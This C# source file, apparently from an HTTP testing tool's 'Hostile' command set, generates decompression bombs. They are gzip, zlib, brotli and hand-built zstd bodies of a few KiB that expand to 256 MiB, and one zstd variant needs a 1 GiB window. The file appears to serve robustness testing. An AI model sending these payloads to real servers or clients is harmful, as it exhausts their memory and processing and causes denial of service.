using System.IO.Compression;

namespace Sendoff.Commands.Hostile;

/// <summary>Compressed bodies of a few KiB that decompress to hundreds of MiB. Each is created when it is first requested.</summary>
static class Bombs
{
    const int UnfoldedBytes = 256 * 1024 * 1024,
        Mebi = 1024 * 1024;

    const byte Letter = (byte)'a';

    static readonly Lazy<byte[]> gzip = new(() => Compress(to => new GZipStream(to, CompressionLevel.Fastest, leaveOpen: true)));
    static readonly Lazy<byte[]> deflate = new(() => Compress(to => new ZLibStream(to, CompressionLevel.Fastest, leaveOpen: true)));
    static readonly Lazy<byte[]> brotli = new(MakeBrotli);

    public static byte[] Gzip => gzip.Value;
    public static byte[] Deflate => deflate.Value;
    public static byte[] Brotli => brotli.Value;

    /// <summary>Needs a window of 8 MiB, the largest that a decoder must support (RFC 8878 3.1.1.1.2).</summary>
    public static byte[] Zstd { get; } = MakeZstd(windowLog: 23);

    /// <summary>Needs a window of 1 GiB.</summary>
    public static byte[] ZstdWide { get; } = MakeZstd(windowLog: 30);

    static byte[] Compress(Func<Stream, Stream> open)
    {
        var bomb = new MemoryStream();
        using (var compressor = open(bomb))
            Fill(piece => compressor.Write(piece));
        return bomb.ToArray();
    }

    /// <summary>With the largest possible window, 16 MiB.</summary>
    static byte[] MakeBrotli()
    {
        byte[] bomb = new byte[Mebi];
        int length = 0;
        using var encoder = new BrotliEncoder(quality: 5, window: 24);
        Fill(piece =>
        {
            encoder.Compress(piece, bomb.AsSpan(length), out _, out int written, isFinalBlock: false);
            length += written;
        });
        encoder.Compress([], bomb.AsSpan(length), out _, out int last, isFinalBlock: true);
        return bomb[..(length + last)];
    }

    static void Fill(Action<byte[]> write)
    {
        byte[] letters = new byte[Mebi];
        letters.AsSpan().Fill(Letter);
        for (int written = 0; written < UnfoldedBytes; written += letters.Length)
            write(letters);
    }

    /// <summary>One byte, repeated: each block of four bytes stands for 128 KiB (RFC 8878 3.1.1.2).</summary>
    static byte[] MakeZstd(int windowLog)
    {
        const int blockSize = 128 * 1024,
            runLength = 1;
        var bomb = new MemoryStream();
        bomb.Write([0x28, 0xb5, 0x2f, 0xfd, 0x00, (byte)((windowLog - 10) << 3)]);
        for (int left = UnfoldedBytes; left > 0; left -= blockSize)
        {
            int header = (left <= blockSize ? 1 : 0) | (runLength << 1) | (blockSize << 3);
            bomb.Write([(byte)header, (byte)(header >> 8), (byte)(header >> 16), Letter]);
        }
        return bomb.ToArray();
    }
}
